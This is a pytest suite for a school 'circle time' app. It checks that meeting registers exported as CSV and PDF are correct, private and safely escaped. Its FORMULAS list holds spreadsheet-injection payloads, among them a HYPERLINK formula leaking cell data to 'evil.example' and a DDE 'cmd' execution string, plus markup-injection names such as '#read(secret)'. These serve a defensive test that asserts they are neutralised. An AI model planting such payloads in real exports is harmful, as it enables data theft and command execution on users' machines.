"""The register taken home as CSV and PDF (T8): nobody's name is a formula, and everybody's name is right."""

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from circletime.meetings.actions import floor, host, lifecycle
from circletime.meetings.models import Meeting, Seat
from tests.web.page import Page
from tests.web.pdf import text_of
from tests.web.visits import Visits
from tests.world import World

HEADS = [
    "Name",
    "Role",
    "Came",
    "In",
    "Out",
    "Minutes",
    "Turns",
    "Seconds spoken",
    "Adult confirmed",
    "Notes",
]

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+44 20",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\u00a0=1+1",
)
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


@pytest.fixture
def teacher(visits: Visits) -> Client:
    return visits.by_role("teacher")


def read(answer: Any, delimiter: str = ",") -> list[list[str]]:
    """The file as a spreadsheet opens it: by its mark, as UTF-8."""
    assert answer.status_code == 200
    assert answer.content.startswith(b"\xef\xbb\xbf"), "without the mark Excel reads another encoding"
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def held(world: World) -> tuple[Meeting, Seat]:
    """Amara spoke for half a minute in a meeting of two minutes; Ben came, nobody else did."""
    meeting, teacher = world.live()
    amara = world.come_in(meeting, teacher, "Amara")
    world.come_in(meeting, teacher, "Ben")
    world.later(seconds=60)
    floor.give_turn(by=teacher, seat_id=amara.public_id, now=world.now)
    world.later(seconds=30)
    floor.end_turn(by=teacher, now=world.now)
    host.write_note(by=teacher, seat_id=amara.public_id, text="Told a story", now=world.now)
    world.later(seconds=30)
    lifecycle.end(by=teacher, now=world.now)
    return world.fresh(meeting), amara


@pytest.mark.parametrize("who", ["teacher_ash", "governor"])
def test_another_class_reads_no_register(who: str, world: World, visits: Visits) -> None:
    meeting, _ = held(world)
    client = visits.by_role(who)
    for name in ("register", "register-csv", "register-pdf"):
        answer = client.get(reverse(name, args=[meeting.public_id]))
        assert answer.status_code == 404 and b"Amara" not in answer.content, name


def test_the_csv_says_who_came_and_what_they_did(world: World, teacher: Client) -> None:
    meeting, _ = held(world)
    answer = teacher.get(reverse("register-csv", args=[meeting.public_id]))
    heads, *rows = read(answer)
    assert heads == HEADS
    by_name = {row[0]: row for row in rows}
    assert len(rows) == 11 and all(len(row) == len(HEADS) for row in rows)
    assert by_name["Amara"] == [
        "Amara",
        "pupil",
        "yes",
        "12:00:00",
        "12:02:00",
        "2.0",
        "1",
        "30",
        "yes",
        "Told a story",
    ]
    assert by_name["Chloé"][2] == "no"
    assert by_name["Mrs Osei"][1] == "host"
    assert {"Olivia (sun)", "Olivia (moon)"} <= set(by_name)
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="register-2026-11-24-1200.csv"'


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_name_and_no_note_is_a_formula(delimiter: str, world: World, teacher: Client) -> None:
    for child, evil in zip(world.oak.pupil_set.order_by("pk"), FORMULAS, strict=False):
        child.first_name = evil
        child.mark = ""
        child.save()
    meeting, teacher_seat = world.live()
    for evil in FORMULAS:
        child = world.oak.pupil_set.earliest("pk")
        seat = Seat.objects.filter(pupil=child).first() or world.come_in(
            meeting, teacher_seat, child.first_name
        )
        host.write_note(by=teacher_seat, seat_id=seat.public_id, text=evil, now=world.now)
    heads, *rows = read(teacher.get(reverse("register-csv", args=[meeting.public_id])))
    assert heads == HEADS and len(rows) == 11
    names = {row[0].replace("'", "") for row in rows}
    assert {evil.replace("'", "") for evil in FORMULAS[:10]} <= names, "defused, and otherwise as it was"
    for row in rows:
        for cell in row:
            for part in cell.split(delimiter):
                assert not part.lstrip() or part.lstrip()[0] not in SIGNS, cell


def test_a_comma_a_quote_and_a_line_break_stay_in_their_cell(world: World, teacher: Client) -> None:
    child = world.pupil("Ben")
    child.first_name = 'Ben, "Benny"\nSmith;x'
    child.save()
    meeting = world.live()[0]
    _, *rows = read(teacher.get(reverse("register-csv", args=[meeting.public_id])))
    assert 'Ben, "Benny"\nSmith;x' in {row[0] for row in rows}
    assert {len(row) for row in rows} == {len(HEADS)}


def test_neither_file_holds_a_surname_or_an_address(world: World, teacher: Client) -> None:
    meeting, _ = held(world)
    texts = [
        teacher.get(reverse("register-csv", args=[meeting.public_id])).content.decode(),
        text_of(teacher.get(reverse("register-pdf", args=[meeting.public_id])).content),
        Page(teacher.get(reverse("register", args=[meeting.public_id]))).words(),
    ]
    for child in world.oak.pupil_set.all():
        for text in texts:
            assert child.last_name not in text and "@" not in text


def test_the_pdf_holds_every_name(world: World, teacher: Client) -> None:
    meeting, _ = held(world)
    answer = teacher.get(reverse("register-pdf", args=[meeting.public_id]))
    assert answer["Content-Type"] == "application/pdf" and answer.content.startswith(b"%PDF-")
    assert answer["Content-Disposition"] == 'attachment; filename="register-2026-11-24-1200.pdf"'
    text = text_of(answer.content)
    flat = " ".join(text.split())
    for child in world.oak.pupil_set.all():
        assert child.label in flat, child.label
    for words in ("Register: Oak", "Circle time, hosted by Mrs Osei", "Told a story", "12:02:00"):
        assert words in flat, words


def test_a_name_in_the_pdf_is_never_markup(world: World, teacher: Client) -> None:
    names = ["#panic(1)", "*bold*", "$x^2$", "]#[", "@ref", "\\ back", '"quote"', "#read(secret)", "// x"]
    for child, name in zip(world.oak.pupil_set.order_by("pk"), names, strict=False):
        child.first_name, child.mark = name, ""
        child.save()
    meeting = world.live()[0]
    answer = teacher.get(reverse("register-pdf", args=[meeting.public_id]))
    assert answer.status_code == 200
    flat = " ".join(text_of(answer.content).split())
    for name in names:
        assert name in flat, name


def test_the_page_says_the_same(world: World, teacher: Client) -> None:
    meeting, _ = held(world)
    words = Page(teacher.get(reverse("register", args=[meeting.public_id]))).words()
    assert "2 of 10 expected" in words and "12:00:00 to 12:02:00" in words
    assert "Told a story" in words and "did not come" in words


def test_a_meeting_that_was_not_held_has_a_register_too(visits: Visits, teacher: Client) -> None:
    meeting = visits.planned()
    for name in ("register", "register-csv", "register-pdf"):
        assert teacher.get(reverse(name, args=[meeting.public_id])).status_code == 200
    opened = visits.open_meeting()
    _, *rows = read(teacher.get(reverse("register-csv", args=[opened.public_id])))
    assert {row[2] for row in rows} == {"no"}
